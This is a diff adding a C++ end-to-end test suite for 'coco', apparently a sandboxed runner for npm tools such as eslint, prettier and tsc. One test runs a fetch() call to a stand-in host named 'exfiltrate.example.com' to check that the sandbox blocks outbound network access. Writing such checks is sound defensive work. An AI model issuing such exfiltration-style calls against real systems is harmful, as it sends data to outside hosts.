@@ -1,0 +1,299 @@
+// End to end: the base image, first-run installs from the real npm registry, warm offline runs of real tools.
+//
+// Runs as an unprivileged user (tests/run-all). Needs the npm registry the
+// host's npm is configured for and the Debian mirror of the host's apt sources.
+// The store (base image, tool layers) is shared by every test and kept between
+// runs in $COCO_TEST_LIFECYCLE_STORE (default ~/.local/share/coco-lifecycle-test):
+// missing, it is built once here; COCO_TEST_REBUILD=1 builds it again.
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdlib>
+#include <filesystem>
+#include <regex>
+#include <thread>
+
+#include "harness.hpp"
+
+namespace {
+
+using cocotest::contains;
+using cocotest::readFile;
+using cocotest::TempDir;
+using cocotest::writeFile;
+namespace fs = std::filesystem;
+
+struct Proc {
+  int code = -1;
+  std::string out, err;
+  double secs = 0;
+};
+
+// fork/exec with a complete environment; stdout and stderr go to files so a
+// chatty child cannot block on a full pipe.
+Proc runProc(const std::vector<std::string>& argv, const std::vector<std::string>& env, const std::string& cwd,
+             int timeoutSecs) {
+  TempDir io("coco-life-io");
+  std::string outPath = io / "out", errPath = io / "err";
+  auto start = std::chrono::steady_clock::now();
+  pid_t pid = fork();
+  if (pid == 0) {
+    int out = open(outPath.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    int err = open(errPath.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    int in = open("/dev/null", O_RDONLY);
+    if (out < 0 || err < 0 || in < 0 || chdir(cwd.c_str()) != 0) _exit(124);
+    dup2(in, 0);
+    dup2(out, 1);
+    dup2(err, 2);
+    setpgid(0, 0);
+    std::vector<char*> a, e;
+    for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
+    for (const auto& s : env) e.push_back(const_cast<char*>(s.c_str()));
+    a.push_back(nullptr);
+    e.push_back(nullptr);
+    execve(a[0], a.data(), e.data());
+    _exit(127);
+  }
+  Proc p;
+  int status = 0;
+  auto deadline = start + std::chrono::seconds(timeoutSecs);
+  while (waitpid(pid, &status, WNOHANG) == 0) {
+    if (std::chrono::steady_clock::now() > deadline) {
+      kill(-pid, SIGKILL);
+      waitpid(pid, &status, 0);
+      ADD_FAILURE() << argv[0] << " timed out after " << timeoutSecs << "s";
+      break;
+    }
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  }
+  p.secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  p.code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+  p.out = readFile(outPath);
+  p.err = readFile(errPath);
+  return p;
+}
+
+std::string envOr(const char* name, const std::string& fallback) {
+  const char* v = getenv(name);
+  return v && *v ? v : fallback;
+}
+
+class Lifecycle : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    store_ = envOr("COCO_TEST_LIFECYCLE_STORE", envOr("HOME", "/tmp") + "/.local/share/coco-lifecycle-test");
+    fs::create_directories(store_);
+  }
+
+  void SetUp() override {
+    COCO_REQUIRE_SANDBOX();
+    coco_ = envOr("COCO_BIN", "");
+    ASSERT_FALSE(coco_.empty()) << "COCO_BIN must name the coco binary";
+    fs::create_directories(home_.path() + "/project");
+    ensureBaseImage();
+  }
+
+  std::string project() const { return home_.path() + "/project"; }
+
+  // coco's environment: a fresh HOME and XDG tree per test, the shared store.
+  std::vector<std::string> env(const std::vector<std::string>& extra = {}) const {
+    std::vector<std::string> e = {
+        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+        "HOME=" + home_.path(),
+        "USER=" + envOr("USER", "nobody"),
+        "LANG=C.UTF-8",
+        "XDG_DATA_HOME=" + home_.path() + "/data",
+        "XDG_CACHE_HOME=" + store_ + "-cache",
+        "COCO_STORE=" + store_,
+        "COCO_SECRET_CANARY=must-not-leak",
+    };
+    for (const char* pass : {"COCO_DEBUG", "TMPDIR", "XDG_RUNTIME_DIR", "COCO_INSTALL_NETWORK"})
+      if (const char* v = getenv(pass)) e.push_back(std::string(pass) + "=" + v);
+    e.insert(e.end(), extra.begin(), extra.end());
+    return e;
+  }
+
+  Proc coco(const std::vector<std::string>& args, int timeoutSecs = 60, const std::string& cwd = "") const {
+    std::vector<std::string> argv = {coco_};
+    argv.insert(argv.end(), args.begin(), args.end());
+    return runProc(argv, env(), cwd.empty() ? project() : cwd, timeoutSecs);
+  }
+
+  void ensureBaseImage() {
+    bool have = fs::exists(store_ + "/images/coco-base.json");
+    if (have && envOr("COCO_TEST_REBUILD", "") != "1") return;
+    if (rebuiltOnce_) return;
+    rebuiltOnce_ = true;
+    Proc p = coco({"rebuild"}, 1800);
+    std::printf("[ timing ] base image build: %.1fs\n", p.secs);
+    ASSERT_EQ(p.code, 0) << p.out << p.err;
+    EXPECT_TRUE(contains(p.out, "mise")) << p.out;
+  }
+
+  void getTool(const std::string& name) {
+    Proc p = coco({"get", name});
+    ASSERT_EQ(p.code, 0) << p.err;
+  }
+
+  // The tool run once, so later runs are warm; returns the first run.
+  Proc firstRun(const std::string& tool, const std::vector<std::string>& args) {
+    Proc p = coco([&] {
+      std::vector<std::string> a = {"run", tool};
+      a.insert(a.end(), args.begin(), args.end());
+      return a;
+    }(), 900);
+    if (contains(p.err, "installing " + tool)) std::printf("[ timing ] first run of %s (install): %.1fs\n", tool.c_str(), p.secs);
+    return p;
+  }
+
+  static std::string store_;
+  static bool rebuiltOnce_;
+  TempDir home_{"coco-life-home"};
+  std::string coco_;
+};
+
+std::string Lifecycle::store_;
+bool Lifecycle::rebuiltOnce_ = false;
+
+constexpr const char* kEslintConfig =
+    "export default [{\n"
+    "  files: [\"**/*.js\"],\n"
+    "  languageOptions: { sourceType: \"module\", globals: { console: \"readonly\" } },\n"
+    "  rules: { \"no-unused-vars\": \"error\", \"no-undef\": \"error\", \"eqeqeq\": \"warn\" },\n"
+    "}];\n";
+constexpr const char* kBadJs =
+    "const unused = 1;\n"
+    "export function f(a) {\n"
+    "  if (a == 2) return missing(a);\n"
+    "  console.log(a);\n"
+    "}\n";
+
+TEST_F(Lifecycle, EslintFromTheStoreMatchesTheSameEslintOnTheHost) {
+  getTool("eslint");
+  Proc version = firstRun("eslint", {"--version"});
+  ASSERT_EQ(version.code, 0) << version.err;
+  std::smatch m;
+  std::string v = version.out;
+  ASSERT_TRUE(std::regex_search(v, m, std::regex("v([0-9]+\\.[0-9]+\\.[0-9]+)"))) << version.out;
+  std::string eslintVersion = m[1];
+
+  writeFile(project() + "/eslint.config.mjs", kEslintConfig);
+  writeFile(project() + "/bad.js", kBadJs);
+  writeFile(project() + "/package.json", "{\"type\": \"module\"}\n");
+  Proc warm = coco({"run", "eslint", "."});
+  std::printf("[ timing ] warm eslint lint: %.2fs\n", warm.secs);
+  EXPECT_EQ(warm.code, 1) << warm.out << warm.err;
+  EXPECT_EQ(warm.err, "") << "a warm run prints nothing of coco's own";
+
+  // The same eslint, unsandboxed, on a copy of the same files.
+  TempDir host("coco-life-host");
+  Proc npm = runProc({"/usr/bin/npm", "install", "--no-fund", "--no-audit", "--prefix", host / "npm",
+                      "eslint@" + eslintVersion},
+                     env(), host.path(), 600);
+  ASSERT_EQ(npm.code, 0) << npm.err;
+  fs::create_directories(host / "project");
+  for (const char* f : {"eslint.config.mjs", "bad.js", "package.json"})
+    fs::copy_file(project() + "/" + f, host / (std::string("project/") + f));
+  Proc direct = runProc({"/usr/bin/node", host / "npm/node_modules/eslint/bin/eslint.js", "."}, env(),
+                        host / "project", 120);
+  EXPECT_EQ(warm.code, direct.code);
+  std::string expected = std::regex_replace(direct.out, std::regex(host / "project"), "/workspace");
+  EXPECT_EQ(warm.out, expected);
+  EXPECT_TRUE(contains(warm.out, "'unused' is assigned a value but never used")) << warm.out;
+}
+
+TEST_F(Lifecycle, PrettierWritesHostFilesAsTheUserAndCheckExitCodesPropagate) {
+  getTool("prettier");
+  Proc first = firstRun("prettier", {"--version"});
+  ASSERT_EQ(first.code, 0) << first.err;
+  writeFile(project() + "/ugly.js", "const   x = {a:1,\n b:2}\n");
+  writeFile(project() + "/fine.js", "const y = 1;\n");
+  Proc check = coco({"run", "prettier", "--check", "ugly.js"});
+  EXPECT_EQ(check.code, 1) << check.out << check.err;
+  Proc write = coco({"run", "prettier", "--write", "ugly.js"});
+  EXPECT_EQ(write.code, 0) << write.err;
+  EXPECT_EQ(readFile(project() + "/ugly.js"), "const x = { a: 1, b: 2 };\n");
+  struct stat st {};
+  ASSERT_EQ(stat((project() + "/ugly.js").c_str(), &st), 0);
+  EXPECT_EQ(st.st_uid, getuid());
+  EXPECT_EQ(st.st_gid, getgid());
+  EXPECT_EQ(coco({"run", "prettier", "--check", "ugly.js", "fine.js"}).code, 0);
+}
+
+TEST_F(Lifecycle, TscCompilesAndTheNetworkIsBlockedAtRunTime) {
+  getTool("tsc");
+  writeFile(project() + "/tsconfig.json",
+            "{\"compilerOptions\": {\"target\": \"es2020\", \"strict\": true, \"outDir\": \"out\"}, "
+            "\"files\": [\"main.ts\"]}\n");
+  writeFile(project() + "/main.ts", "export function add(a: number, b: number): number { return a + b; }\n");
+  Proc tsc = firstRun("tsc", {"-p", "."});
+  ASSERT_EQ(tsc.code, 0) << tsc.out << tsc.err;
+  EXPECT_TRUE(contains(readFile(project() + "/out/main.js"), "return a + b")) << "no compiled output";
+  writeFile(project() + "/main.ts", "export const n: number = \"not a number\";\n");
+  Proc bad = coco({"run", "tsc", "-p", "."});
+  EXPECT_NE(bad.code, 0);
+  EXPECT_TRUE(contains(bad.out, "TS2322")) << bad.out;
+
+  // A tool reaching for a host that is not in its allowlist: coco says so.
+  writeFile(home_.path() + "/data/coco/tools/fetcher.json",
+            "{\"command\": \"node\", \"allowed_hosts\": [\"allowed.example.test\"],"
+            " \"mounts\": [{\"src\": \".\", \"dst\": \"/workspace\"}]}\n");
+  Proc net = coco({"run", "fetcher", "-e",
+                   "fetch('https://exfiltrate.example.com/').then(() => process.exit(0), e => {"
+                   " console.error(String(e.cause || e)); process.exit(3); })"});
+  EXPECT_EQ(net.code, 3) << net.out << net.err;
+  EXPECT_TRUE(contains(net.err, "coco: blocked")) << net.err;
+  EXPECT_TRUE(contains(net.err, "exfiltrate.example.com")) << net.err;
+}
+
+TEST_F(Lifecycle, UpThenTheSymlinkRunsTheTool) {
+  getTool("eslint");
+  Proc up = coco({"up"});
+  ASSERT_EQ(up.code, 0) << up.err;
+  std::string link = home_.path() + "/.local/bin/eslint";
+  ASSERT_TRUE(fs::is_symlink(link)) << up.out << up.err;
+  Proc p = runProc({link, "--version"}, env(), project(), 900);
+  EXPECT_EQ(p.code, 0) << p.err;
+  EXPECT_TRUE(std::regex_search(p.out, std::regex("^v[0-9]+\\.[0-9]+\\.[0-9]+\n$"))) << p.out;
+  Proc list = coco({"list"});
+  EXPECT_TRUE(contains(list.out, "eslint")) << list.out;
+}
+
+TEST_F(Lifecycle, AFailedInstallLeavesNoLayerAndConcurrentFirstRunsShareOneInstall) {
+  // An npm package that does not exist: the install fails, nothing is committed.
+  writeFile(home_.path() + "/data/coco/tools/nosuch.json",
+            "{\"tool\": \"npm:coco-test-no-such-package-3f9a1c\", \"network\": \"none\"}\n");
+  Proc bad = coco({"run", "nosuch"}, 600);
+  EXPECT_EQ(bad.code, 125) << bad.out << bad.err;
+  EXPECT_TRUE(contains(bad.err, "installing nosuch")) << bad.err;
+  bool committed = false;
+  if (fs::exists(store_ + "/tool-layers/nosuch"))
+    for (const auto& e : fs::directory_iterator(store_ + "/tool-layers/nosuch"))
+      committed |= e.is_directory() && e.path().filename().string()[0] != '.';
+  EXPECT_FALSE(committed) << "a failed install left a layer";
+
+  // A small package under a config name unique to this run, started twice at once.
+  std::string name = "isnum" + std::to_string(getpid());
+  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
+            "{\"command\": \"node\", \"dependencies\": {\"mise\": [\"npm:is-number\"]}, \"network\": \"none\"}\n");
+  Proc a, b;
+  std::thread ta([&] { a = coco({"run", name, "-e", "process.exit(7)"}, 900); });
+  std::thread tb([&] { b = coco({"run", name, "-e", "process.exit(7)"}, 900); });
+  ta.join();
+  tb.join();
+  EXPECT_EQ(a.code, 7) << a.err;
+  EXPECT_EQ(b.code, 7) << b.err;
+  int installs = contains(a.err, "coco: installing") + contains(b.err, "coco: installing");
+  EXPECT_EQ(installs, 1) << a.err << "\n---\n" << b.err;
+  Proc warm = coco({"run", name, "-e", "process.exit(0)"});
+  EXPECT_EQ(warm.code, 0);
+  EXPECT_EQ(warm.err, "");
+  std::error_code ec;
+  fs::remove_all(store_ + "/tool-layers/" + name, ec);
+}
+
+}  // namespace
